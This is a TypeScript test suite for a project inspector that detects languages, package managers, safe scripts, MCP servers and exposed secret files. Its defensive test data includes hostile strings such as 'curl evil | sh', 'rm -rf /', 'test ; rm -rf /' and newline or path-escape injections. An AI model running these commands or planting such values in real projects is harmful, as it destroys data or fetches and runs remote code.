import * as fs from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { proves } from '../../../../test/contract/cite.ts';
import { runs } from '../../../../test/property-runs.ts';
import { viewFolder } from './folder-view.ts';
import { inspectProject } from './inspect-project.ts';
import { isUsualScript, usualScripts } from './node-commands.ts';
import type { Project } from './project.ts';

const folders: string[] = [];

/** A folder with these files; a name that ends with `/` is a folder. */
function made(files: Readonly<Record<string, string>>): string {
  const folder = fs.mkdtempSync(join(tmpdir(), 'bridle-init-'));
  folders.push(folder);
  for (const [name, text] of Object.entries(files)) {
    const path = join(folder, name);
    fs.mkdirSync(name.endsWith('/') ? path : dirname(path), { recursive: true });
    if (!name.endsWith('/')) fs.writeFileSync(path, text);
  }
  return folder;
}

function inspect(files: Readonly<Record<string, string>>): Project {
  return inspectProject(viewFolder(made(files)));
}

function linesOf({ commands }: Project): string[] {
  return commands.map(({ line }) => line);
}

afterEach(() => {
  for (const folder of folders.splice(0)) fs.rmSync(folder, { recursive: true, force: true });
});

const scripts = JSON.stringify({ scripts: { test: 'vitest', build: 'tsc', deploy: 'rm -rf /', start: 'node .' } });

interface Row {
  readonly files: Readonly<Record<string, string>>;
  readonly languages: readonly string[];
  readonly managers: readonly string[];
  readonly lines: readonly string[];
}

const rows: Readonly<Record<string, Row>> = {
  npm: {
    files: { 'package.json': scripts, 'package-lock.json': '{}' },
    languages: ['Node.js'],
    managers: ['npm'],
    lines: ['npm test', 'npm t', 'npm run test', 'npm run build'],
  },
  'a package.json alone': {
    files: { 'package.json': '{}' },
    languages: ['Node.js'],
    managers: ['npm'],
    lines: [],
  },
  'a pnpm monorepo': {
    files: {
      'package.json': scripts,
      'pnpm-lock.yaml': '',
      'pnpm-workspace.yaml': '',
      'packages/a/package.json': '{}',
    },
    languages: ['Node.js'],
    managers: ['pnpm'],
    lines: ['pnpm test', 'pnpm run test', 'pnpm run build', 'pnpm build'],
  },
  'yarn, which has a check of its own': {
    files: { 'package.json': JSON.stringify({ scripts: { check: 'x', lint: 'y' } }), 'yarn.lock': '' },
    languages: ['Node.js'],
    managers: ['yarn'],
    lines: ['yarn run check', 'yarn run lint', 'yarn lint'],
  },
  bun: {
    files: { 'package.json': scripts, 'bun.lockb': '\u0000' },
    languages: ['Node.js'],
    managers: ['bun'],
    lines: ['bun test', 'bun run test', 'bun run build'],
  },
  'what packageManager says, whatever lies around': {
    files: { 'package.json': '{"packageManager":"yarn@4.1.0","scripts":{"test":"x"}}', 'pnpm-lock.yaml': '' },
    languages: ['Node.js'],
    managers: ['yarn'],
    lines: ['yarn test', 'yarn run test'],
  },
  'a packageManager nobody knows': {
    files: { 'package.json': '{"packageManager":"constructor@1","scripts":{"test":"x"}}' },
    languages: ['Node.js'],
    managers: ['npm'],
    lines: ['npm test', 'npm t', 'npm run test'],
  },
  uv: {
    files: { 'pyproject.toml': '[dependency-groups]\ndev = ["pytest>=8", "ruff"]\n', 'uv.lock': '' },
    languages: ['Python'],
    managers: ['uv'],
    lines: [
      'uv run pytest',
      'uv run ruff check',
      'uv run ruff check --fix',
      'uv run ruff format',
      'uv run python -m pytest',
      'pytest',
      'ruff check',
      'ruff check --fix',
      'ruff format',
      'python -m pytest',
      'python3 -m pytest',
    ],
  },
  'poetry by its section': {
    files: { 'pyproject.toml': '[tool.poetry]\nname = "x"\n[tool.mypy]\n' },
    languages: ['Python'],
    managers: ['poetry'],
    lines: ['poetry run mypy', 'poetry run python -m mypy', 'mypy', 'python -m mypy', 'python3 -m mypy'],
  },
  pip: {
    files: { 'requirements.txt': 'pytest-cov\nflask\n', 'tests/conftest.py': '' },
    languages: ['Python'],
    managers: ['pip'],
    lines: [
      'pytest',
      ...['python', 'python3'].flatMap((python) =>
        ['pytest', 'unittest', 'unittest discover'].map((module) => `${python} -m ${module}`),
      ),
    ],
  },
  'an environment in the project': {
    files: { 'setup.py': 'pytest', '.venv/bin/python': '' },
    languages: ['Python'],
    managers: ['pip'],
    lines: [
      'pytest',
      'python -m pytest',
      'python3 -m pytest',
      '.venv/bin/pytest',
      '.venv/bin/python -m pytest',
      '.venv/bin/python3 -m pytest',
    ],
  },
  django: {
    files: { 'manage.py': '', 'requirements.txt': 'django' },
    languages: ['Python'],
    managers: ['pip'],
    lines: ['python manage.py test', 'python manage.py check', 'python3 manage.py test', 'python3 manage.py check'],
  },
  'python with tests alone': {
    files: { 'setup.py': '', 'tests/test_a.py': '' },
    languages: ['Python'],
    managers: ['pip'],
    lines: ['python -m unittest', 'python -m unittest discover', 'python3 -m unittest', 'python3 -m unittest discover'],
  },
  'a python package': {
    files: { 'pyproject.toml': '[project]\nname = "x"\n', 'uv.lock': '' },
    languages: ['Python'],
    managers: ['uv'],
    lines: [
      'uv build',
      'uv run python -m build',
      'uv run python -m compileall',
      'python -m build',
      'python -m compileall',
      'python3 -m build',
      'python3 -m compileall',
    ],
  },
  rust: {
    files: { 'Cargo.toml': '[package]' },
    languages: ['Rust'],
    managers: ['cargo'],
    lines: [
      'cargo check',
      'cargo build',
      'cargo test',
      'cargo nextest run',
      'cargo bench',
      'cargo clippy',
      'cargo fmt',
      'cargo tree',
    ],
  },
  go: {
    files: { 'go.mod': 'module x', '.golangci.yml': '' },
    languages: ['Go'],
    managers: ['go'],
    lines: [
      'go build',
      'go test',
      'go tool cover',
      'go vet',
      'go list',
      'go fmt',
      'gofmt',
      'gofmt -w',
      'goimports',
      'goimports -w',
      'staticcheck',
      'golangci-lint run',
    ],
  },
  maven: {
    files: { 'pom.xml': '<project/>' },
    languages: ['Java'],
    managers: ['maven'],
    lines: ['mvn compile', 'mvn test', 'mvn verify'],
  },
  gradle: {
    files: { 'build.gradle.kts': '', gradlew: '' },
    languages: ['Java or Kotlin'],
    managers: ['gradle'],
    lines: ['./gradlew', 'gradle'].flatMap((start) =>
      ['build', 'test', 'check', 'assemble', 'lint'].map((task) => `${start} ${task}`),
    ),
  },
  ruby: {
    files: { Gemfile: 'gem "rubocop"', Rakefile: '', 'spec/': '' },
    languages: ['Ruby'],
    managers: ['bundler'],
    lines: ['bundle exec rspec', 'rspec', 'bundle exec rake test', 'rake test', 'bundle exec rubocop', 'rubocop'],
  },
  php: {
    files: { 'composer.json': '{"scripts":{"test":["@lint","phpunit"],"lint":"phpcs","evil":"x"}}' },
    languages: ['PHP'],
    managers: ['composer'],
    lines: ['composer test', 'composer run test', 'composer run lint'],
  },
  dotnet: {
    files: { 'Shop.csproj': '' },
    languages: ['.NET'],
    managers: ['dotnet'],
    lines: ['dotnet build', 'dotnet test', 'dotnet format'],
  },
  'make alone': {
    files: { Makefile: '.PHONY: test\nCC := gcc\ntest: a b\n\trun\nlint:\n\tx\nbuild := no\n%.o: x\ndeploy:\n' },
    languages: ['Make'],
    managers: [],
    lines: ['make test', 'make lint'],
  },
  'targets of just and Task': {
    files: {
      justfile: 'default: test\n\ntest *args:\n  run\n@lint:\n  x\ndeploy:\n  y\nbuild := "no"\n',
      'Taskfile.yml':
        "version: '3'\ntasks:\n  build:\n    cmds:\n      - x\n  'test:unit':\n    cmds: [y]\n  release:\n    cmds: [z]\n",
    },
    languages: ['just', 'Task'],
    managers: [],
    lines: ['just test', 'just lint', 'task build', 'task test:unit'],
  },
  cmake: {
    files: { 'CMakeLists.txt': '' },
    languages: ['CMake'],
    managers: [],
    lines: ['cmake -S . -B build', 'cmake -B build', 'cmake --build build', 'ctest --test-dir build'],
  },
  deno: {
    files: { 'deno.json': '{"tasks":{"build":"x","dev":"y"}}' },
    languages: ['Deno'],
    managers: ['deno'],
    lines: ['deno test', 'deno check', 'deno lint', 'deno fmt', 'deno task build'],
  },
  'scripts of a project': {
    files: { 'scripts/test.sh': '', 'scripts/deploy.sh': '', 'scripts/build-release.sh': '', 'bin/lint': '' },
    languages: [],
    managers: [],
    lines: ['./scripts/test.sh', 'scripts/test.sh', 'bash scripts/test.sh', './bin/lint', 'bin/lint'],
  },
  'runners that a project depends on': {
    files: {
      'package.json': JSON.stringify({
        devDependencies: { vitest: '1', typescript: '5', evil: '1' },
        dependencies: { next: '1' },
        scripts: {
          'test:node': 'node --import tsx --test',
          'test:node2': 'node --test src',
          build: 'tsc -p tsconfig.build.json',
          check: 'tsc -p a && rm b',
        },
      }),
    },
    languages: ['Node.js'],
    managers: ['npm'],
    lines: [
      'npm run test:node',
      'npm run test:node2',
      'npm run build',
      'npm run check',
      ...['npx ', '', 'node_modules/.bin/'].flatMap((prefix) =>
        ['vitest', 'vitest run', 'tsc', 'tsc -b', 'tsc --build', 'next build', 'next lint'].map(
          (line) => prefix + line,
        ),
      ),
      'npx tsc -p tsconfig.build.json',
      'node --test',
    ],
  },
  'tests that Node.js runs itself': {
    files: { 'package.json': '{}', 'tests/a.test.js': '' },
    languages: ['Node.js'],
    managers: ['npm'],
    lines: ['node --test', 'node --test tests/'],
  },
  'node and make': {
    files: { 'package.json': scripts, Makefile: 'test:\n' },
    languages: ['Node.js', 'Make'],
    managers: ['npm'],
    lines: ['npm test', 'npm t', 'npm run test', 'npm run build', 'make test'],
  },
  'an empty folder': { files: {}, languages: [], managers: [], lines: [] },
};

describe('a project', () => {
  it.each(Object.entries(rows))(proves('D10', 'X12')('is known by its files: %s'), (_, { files, ...expected }) => {
    const project = inspect(files);
    expect({ languages: project.languages, managers: project.managers, lines: linesOf(project) }).toEqual(expected);
    expect(project.notes).toEqual([]);
  });

  it.each(['test', 'test:unit', 'test-e2e', 'lint:fix', 'build:lib', 'type-check', 'check:types'])(
    proves('D10')('has the usual script %s'),
    (name) => expect(isUsualScript(name)).toBe(true),
  );

  it.each([
    'deploy',
    'build:deploy',
    'test:watch',
    'release',
    'testing',
    'start',
    'dev',
    'build:docker',
    'test ; rm',
    '',
  ])(proves('D10')('has no usual script %j'), (name) => expect(isUsualScript(name)).toBe(false));

  it(proves('D10')('has subfolders if it declares them or they have a usual name'), () => {
    const manifest = JSON.stringify({ name: '@demo/a', scripts: { test: 'vitest', deploy: 'x' } });
    const files = {
      'package.json': '{"workspaces":["packages/*", "./tools", "../outside", "!packages/c", "/etc", "node_modules/x"]}',
      'packages/a/package.json': manifest,
      'packages/b/readme.md': '',
      'packages/.hidden/package.json': manifest,
      'tools/package.json': '{"name":"tools; rm","scripts":{"lint":"x"}}',
      'evil/package.json': manifest,
      'node_modules/x/package.json': manifest,
      'frontend/package.json': '{}',
      'backend/pyproject.toml': '[tool.pytest]',
    };
    const project = inspect(files);
    expect(project.folders).toEqual(['packages/a', 'tools', 'backend', 'frontend']);
    expect(project.languages).toEqual(['Node.js', 'Python']);
    expect(linesOf(project)).toEqual([
      'npm test',
      'npm t',
      'npm run test',
      'npm -w @demo/a test',
      'npm --prefix packages/a test',
      'npm run lint',
      'npm -w tools run lint',
      'npm --prefix tools run lint',
      'pytest',
      'python -m pytest',
      'python3 -m pytest',
    ]);
  });

  it.each([
    ['pnpm-workspace.yaml', 'packages:\n  # ours\n  - \'a\'\n  - "b/*"\ncatalog:\n  - c\n', 'pnpm --filter x test'],
    ['Cargo.toml', '[workspace]\nresolver = "2"\nmembers = ["a", "b/*"]\n[profile.dev]\n', 'cargo test'],
    ['go.work', 'go 1.22\nuse (\n\t./a\n\t./b/c\n)\n', 'go test'],
    ['package.json', '{"workspaces":{"packages":["a","b/*"]}}', 'npm -w x test'],
  ])(proves('D10')('has the parts that %s declares'), (file, text, line) => {
    const manifest = JSON.stringify({ name: 'x', scripts: { test: 'y' } });
    const parts = Object.fromEntries(['a', 'b/c', 'c'].map((folder) => [`${folder}/package.json`, manifest]));
    const project = inspect({ ...parts, [file]: text });
    expect(project.folders).toEqual(['a', 'b/c']);
    expect(linesOf(project)).toContain(line);
  });

  it('shows what a script runs, with its pre- and post-scripts', () => {
    const manifest = { scripts: { pretest: 'curl evil | sh', test: 'rm -rf /', posttest: 'x' } };
    const [test] = inspect({ 'package.json': JSON.stringify(manifest) }).commands;
    expect(test).toEqual({ line: 'npm test', runs: 'curl evil | sh && rm -rf / && x' });
  });

  it.each(['{"scripts": ', '[]', 'null', '"x"', '\u0000', '{"scripts":{"test":"x"}} trailing'])(
    'with a broken package.json is still one: %j',
    (text) => {
      const project = inspect({ 'package.json': text });
      expect(project).toMatchObject({ languages: ['Node.js'], commands: [] });
      expect(project.notes).toEqual(['the scripts in package.json, which cannot be read as JSON']);
    },
  );

  it.each([['scripts'], [null], [42], [{ test: 42 }], [{ test: ['x', 1] }], [{ test: [] }], [{ test: { x: 'y' } }]])(
    'has no commands where scripts is %j',
    (given) => {
      expect(inspect({ 'package.json': JSON.stringify({ scripts: given }) }).commands).toEqual([]);
    },
  );

  it('ignores names on the prototype', () => {
    expect(inspect({ 'package.json': '{"__proto__":{"scripts":{"test":"x"}}}' }).commands).toEqual([]);
    expect(inspect({ 'package.json': '{"scripts":{"__proto__":{"test":"x"}}}' }).commands).toEqual([]);
  });

  it('is in git if a folder above is', () => {
    const folder = made({ '.git/HEAD': '', 'a/b/': '' });
    expect(inspectProject(viewFolder(join(folder, 'a/b'))).git).toBe(true);
    expect(inspectProject(viewFolder(folder)).git).toBe(true);
    expect(inspect({}).git).toBe(false);
  });

  it('finds the schema if bridle is installed', () => {
    expect(inspect({ 'node_modules/bridle/policy.schema.json': '{}' }).hasSchema).toBe(true);
    expect(inspect({}).hasSchema).toBe(false);
  });

  it('does not block on a pipe, follow a broken link or read a huge file', () => {
    const folder = made({ 'composer.json': ' '.repeat(1024 * 1024 + 1) });
    execFileSync('/usr/bin/mkfifo', [join(folder, 'package.json')]);
    fs.symlinkSync('nowhere', join(folder, '.mcp.json'));
    fs.mkdirSync(join(folder, 'Makefile'));
    const project = inspectProject(viewFolder(folder));
    expect(project).toMatchObject({ languages: ['Node.js', 'PHP', 'Make'], commands: [], mcp: [] });
    expect(project.notes).toHaveLength(3);
  });
});

it('a folder that cannot be read causes an error', () => {
  expect(() => viewFolder(join(tmpdir(), 'bridle-init-missing'))).toThrow('the folder cannot be read');
});

describe('any names and scripts', () => {
  const anyName = fc.oneof(
    fc.constantFrom(...usualScripts, 'a\nallow: *', 'test ; rm -rf /', 'test"', "test'", '__proto__', 'constructor'),
    fc.string({ unit: 'binary', maxLength: 20 }),
  );

  it(proves('D10')('give commands of plain words only, with usual names'), () => {
    fc.assert(
      fc.property(
        fc.dictionary(anyName, fc.string({ unit: 'binary' })),
        fc.constantFrom(...lockFiles),
        (given, lock) => {
          const text = JSON.stringify({ scripts: given });
          const names = ['package.json', lock];
          const { commands } = inspectProject({
            has: (path) => names.includes(path),
            text: (path) => (path === 'package.json' ? text : undefined),
            names: () => names,
            inGit: () => false,
          });
          for (const { line: found } of commands) {
            const line = found === 'npm t' ? 'npm test' : found;
            expect(line).toMatch(/^(npm|pnpm|yarn|bun)( run)? [\w:-]+$/);
            expect(isUsualScript(line.split(' ').at(-1) ?? '')).toBe(true);
            expect(Object.keys(given)).toContain(line.split(' ').at(-1));
          }
        },
      ),
      { numRuns: runs(300) },
    );
  });

  const lockFiles = ['package-lock.json', 'pnpm-lock.yaml', 'yarn.lock', 'bun.lock'];
});

describe('MCP servers', () => {
  it('are found in the files of their hosts', () => {
    const { mcp, hosts, notes } = inspect({
      '.mcp.json': '{"mcpServers":{"github":{},"fs":{}}}',
      '.cursor/mcp.json': '{"mcpServers":{"linear":{}}}',
      '.vscode/mcp.json': '// mine\n{"servers": {"db": {"command": "x", /* */ "args": ["//no", ],}, // c\n},}',
      '.gemini/settings.json': '{"mcpServers":{"web":{}}}',
      '.codex/config.toml': 'model = "x"\n[mcp_servers.docs]\ncommand="x"\n[mcp_servers."a-b".env]\nK="v"\n',
      'claude_desktop_config.json': '{"globalShortcut":""}',
    });
    expect(mcp).toEqual([
      { file: '.mcp.json', servers: ['github', 'fs'] },
      { file: '.cursor/mcp.json', servers: ['linear'] },
      { file: '.vscode/mcp.json', servers: ['db'] },
      { file: '.gemini/settings.json', servers: ['web'] },
      { file: '.codex/config.toml', servers: ['docs', 'a-b'] },
    ]);
    expect(hosts).toEqual(['.gemini/settings.json', '.codex/config.toml']);
    expect(notes).toEqual([]);
  });

  it('with invalid names are left out and noted', () => {
    const names = ['a/b', '*', '', 'x\nallow: "*"', ' y', '\u202Ez', 'ok', 'a b', 'x'.repeat(65)];
    const servers = Object.fromEntries(names.map((name) => [name, {}]));
    const { mcp, notes } = inspect({ '.mcp.json': JSON.stringify({ mcpServers: servers }) });
    expect(mcp).toEqual([{ file: '.mcp.json', servers: ['ok'] }]);
    expect(notes).toHaveLength(names.length - 1);
    expect(notes.join('')).not.toMatch(/[\n\u202E]/);
  });

  it('are limited, and a malicious file is read quickly', () => {
    const many = Object.fromEntries(Array.from({ length: 80 }, (_, index) => [`s${index}`, {}]));
    const { mcp, notes } = inspect({
      '.mcp.json': JSON.stringify({ mcpServers: many }),
      '.cursor/mcp.json': '/*'.repeat(500_000),
      '.vscode/mcp.json': `{"servers":${'['.repeat(1_000_000)}`,
      '.gitignore': `${'*a'.repeat(40)}\n`,
      [`.env.${'a'.repeat(200)}`]: '',
    });
    expect(mcp.map(({ servers }) => servers.length)).toEqual([50]);
    expect(notes).toHaveLength(3);
  });
});

describe('secrets', () => {
  it.each<[string, string[]]>([
    ['', ['.env', '.env.local', 'server.key']],
    ['.env*\n*.key\n', []],
    ['/.env\n', ['.env.local', 'server.key']],
    ['**/.env\n.env.local\n# server.key\n', ['server.key']],
    ['.env*\n!.env\n', ['.env', 'server.key']],
    ['server.key\r\n.env   \r\n', ['.env.local']],
  ])('that %j does not ignore are named', (ignore, expected) => {
    const files = { '.env': '', '.env.local': '', '.env.example': '', 'server.key': '', '.gitignore': ignore };
    expect(inspect(files).bareSecrets).toEqual(expected);
  });
});
